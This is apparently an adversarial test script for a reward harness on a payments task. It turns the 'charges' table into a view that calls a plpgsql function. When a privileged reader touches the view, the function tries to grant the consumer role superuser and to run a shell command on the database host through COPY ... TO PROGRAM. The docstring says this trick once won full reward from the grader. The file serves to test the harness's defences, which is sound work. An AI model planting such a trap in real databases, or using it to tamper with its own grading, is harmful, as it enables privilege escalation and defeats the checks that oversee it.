"""Adversary (payments): makes ``charges`` a view over a function of its own, before the
golden consumer creates its tables, so that whoever reads ``charges`` runs that function.
When the reader is not the consumer, the function tries to make the consumer's role a
superuser, to run a shell on the database server (``COPY ... TO PROGRAM``, which would
create /tmp/chaos-adversary-view-* on the host) and to write what it could into a table.
The view is auto-updatable (a WHERE over a real table), so the golden consumer works
through it. The attack that got reward 1.0 when the harness read as the superuser.

Expected: the harness's reader refuses the view (it is not an ordinary table) without
running it: the seed fails as unreadable, reward 0; the function never ran as anyone but the
consumer (no marker file on the host).

pack: payments
golden: yes
reward: 0
unreadable: public.charges: a view, not an ordinary table
"""

import os

import psycopg
from _probe import run_golden, say

SETUP = """
CREATE TABLE IF NOT EXISTS charges_real (
    order_id     text PRIMARY KEY,
    account      text NOT NULL,
    amount_cents bigint NOT NULL
);
CREATE TABLE IF NOT EXISTS ran_as (reader text, session text);
GRANT INSERT ON ran_as TO PUBLIC;
CREATE OR REPLACE FUNCTION escalate() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF current_user <> session_user OR current_user NOT LIKE '%consumer%' THEN
        BEGIN
            EXECUTE format('ALTER ROLE %I SUPERUSER', 'payments_consumer');
        EXCEPTION WHEN others THEN NULL;
        END;
        BEGIN
            EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch /tmp/chaos-adversary-view-'
                || pg_backend_pid() || '''';
        EXCEPTION WHEN others THEN NULL;
        END;
        BEGIN
            INSERT INTO ran_as VALUES (current_user, session_user);
        EXCEPTION WHEN others THEN NULL;
        END;
    END IF;
    RETURN true;
END $$;
CREATE OR REPLACE VIEW charges AS
    SELECT order_id, account, amount_cents FROM charges_real WHERE escalate();
"""

with psycopg.connect(os.environ["PG_DSN"], connect_timeout=10, autocommit=True) as conn:
    conn.execute(SETUP)  # type: ignore[arg-type]
say("adversary: charges is now a view over escalate()")
run_golden()
